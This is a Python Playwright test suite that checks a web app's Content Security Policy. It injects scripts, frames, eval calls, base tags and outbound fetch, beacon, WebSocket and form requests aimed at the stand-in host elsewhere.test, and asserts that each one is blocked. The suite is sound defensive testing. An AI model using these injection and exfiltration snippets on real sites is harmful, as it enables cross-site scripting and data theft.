"""The policy of every page: nothing of the studio's own needs an exception, and what is slipped in does nothing."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Route

from tests.attacks import hostile
from tests.attacks.conftest import Served
from tests.attacks.studio import Studio, segment

RECORD = """() => { if (window.top !== window) return; window.violations = [];
  document.addEventListener('securitypolicyviolation', e => window.violations.push(e.effectiveDirective)); }"""
ELSEWHERE = "http://elsewhere.test"


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    context.add_init_script(f"({RECORD})()")
    yield context.new_page()
    context.close()


def violations(page: Page) -> list[str]:
    return list(page.evaluate("() => window.violations"))


def addresses(served: Studio) -> list[str]:
    """A page of each kind, and each view of a run."""
    run = f"/runs/{segment(served.runs['fails'])}"
    shows, token = segment(hostile.SHOWS.id), served.questions()[0].token
    return [
        "/", "/runs", "/approvals", "/settings", f"/approvals/{token}", "/nothing", "/approvals/nothing",
        *(f"/workflows/{shows}?tab={tab}" for tab in ("graph", "runs", "code")),
        *(f"{run}?view={view}" for view in ("graph", "timeline", "journal")),
        *(f"{run}?tab={tab}" for tab in ("data", "attempts", "logs", "error", "code", "events", "state")),
        *(f"/runs/{segment(one)}" for name, one in served.runs.items() if name != "fails"),
    ]  # fmt: skip


def test_the_studio_itself_breaks_no_rule(served: Studio, page: Page) -> None:
    complaints: list[str] = []
    page.on("console", lambda said: complaints.append(said.text) if "Content Security" in said.text else None)
    for path in addresses(served):
        page.goto(served.url + path)
        page.keyboard.press("?")
        page.keyboard.press("Escape")
        assert violations(page) == [], path
    assert complaints == []


INJECTED = {
    "script": ("script-src-elem", "const one = document.createElement('script'); one.textContent = 'window.ran = 1'"),
    "foreign script": ("script-src-elem", "const one = document.createElement('script'); one.src = '{}/x.js'"),
    "data script": ("script-src-elem", "const one = document.createElement('script'); one.src = 'data:,window.ran=1'"),
    "style": ("style-src-elem", "const one = document.createElement('style'); one.textContent = '*{{display:none}}'"),
    "style sheet": (
        "style-src-elem",
        "const one = document.createElement('link'); one.rel = 'stylesheet'; one.href = '{}/x.css'",
    ),
    "frame": ("frame-src", "const one = document.createElement('iframe'); one.src = '{}/'"),
    "own frame": ("frame-src", "const one = document.createElement('iframe'); one.src = '/'"),
    "object": ("object-src", "const one = document.createElement('object'); one.data = '{}/x'"),
    "image": ("img-src", "const one = document.createElement('img'); one.src = '{}/x.png'"),
    "base": ("base-uri", "const one = document.createElement('base'); one.href = '{}/'"),
    "handler": (
        "script-src-attr",
        "const one = document.createElement('div'); one.innerHTML = '<b onclick=\"window.ran=1\">x</b>'",
    ),
    "style attribute": (
        "style-src-attr",
        "const one = document.createElement('div'); one.innerHTML = '<b style=\"color:red\">x</b>'",
    ),
}
SEND = """const one = document.createElement('form'); one.action = '{}/x'; one.method = 'post';
document.body.append(one); one.submit()"""
DONE = {
    "fetch": ("connect-src", "fetch('{}/x').catch(() => 0)"),
    "beacon": ("connect-src", "navigator.sendBeacon('{}/x', 'data')"),
    "socket": ("connect-src", "try {{ new WebSocket('ws://elsewhere.test/ws') }} catch {{}}"),
    "event source": ("connect-src", "new EventSource('{}/x')"),
    "worker": ("worker-src", "try {{ new Worker('data:,1') }} catch {{}}"),
    "form": ("form-action", SEND),
    "timer": ("script-src", "try {{ setTimeout('window.ran = 1', 0) }} catch {{}}"),
    "code": ("script-src", "try {{ (0, eval)('window.ran = 1') }} catch {{}}"),
}


def note(route: Route, ours: str, asked: list[str]) -> None:
    if route.request.url.startswith(ours):
        route.continue_()
        return
    asked.append(route.request.url)
    route.fulfill(body="window.ran = 1", content_type="text/javascript")


def test_what_is_slipped_into_a_page_does_nothing(served: Studio, page: Page) -> None:
    """Each in turn is stopped by the directive that is meant for it, and nobody else is asked for anything."""
    asked: list[str] = []
    page.context.route("**/*", lambda route: note(route, served.url, asked))
    page.goto(f"{served.url}/runs")
    stopped = {}
    for name, (_, source) in {**INJECTED, **DONE}.items():
        more = "; document.body.append(one)" if name in INJECTED else ""
        page.evaluate(f"() => {{ window.violations = []; setTimeout(() => {{ {source.format(ELSEWHERE)}{more} }}) }}")
        page.wait_for_function("() => window.violations.length > 0", timeout=10_000)
        stopped[name] = violations(page)[0]
    assert stopped == {name: directive for name, (directive, _) in {**INJECTED, **DONE}.items()}
    assert page.evaluate("() => window.ran") is None
    assert page.evaluate("() => document.baseURI") == f"{served.url}/runs"
    assert asked == []


def test_no_other_page_can_put_the_studio_into_a_frame(served: Studio, shared: Served, page: Page) -> None:
    """Neither one of another site nor one of another port of this machine."""
    blocked: list[str] = []
    page.on("requestfailed", lambda request: blocked.append(request.url))
    html = f'<!doctype html><iframe src="{served.url}/runs"></iframe>'
    page.context.route("**/frame", lambda route: route.fulfill(body=html, content_type="text/html"))
    for origin in (ELSEWHERE, f"http://localhost:{shared.wire.port}"):
        page.goto(f"{origin}/frame")
        frame = page.frames[1]
        assert "Runs" not in (frame.content() if frame.url.startswith("http") else "")
        assert frame.evaluate("() => document.querySelector('main')") is None
    assert [url for url in blocked if url.startswith(served.url)] == [f"{served.url}/runs"] * 2


def test_a_drawing_that_is_opened_gets_the_policy_of_a_sandbox(served: Studio) -> None:
    """Whoever serves it: all that browsers draw and that is no page of the studio's."""
    answer = served.get(served.app.state.assets.url("icon.svg"))
    assert answer.headers["content-type"].startswith("image/svg+xml")
    assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_a_drawing_that_is_opened_runs_nothing_and_asks_for_nothing(shared: Served, page: Page) -> None:
    asked: list[str] = []
    page.context.route("http://elsewhere.test/**", lambda route: note(route, shared.wire.origin, asked))
    page.goto(f"{shared.wire.origin}/scripted")
    page.locator("#it").click()
    assert page.evaluate("() => window.__xss") is None
    assert page.url == f"{shared.wire.origin}/scripted"
    assert asked == []
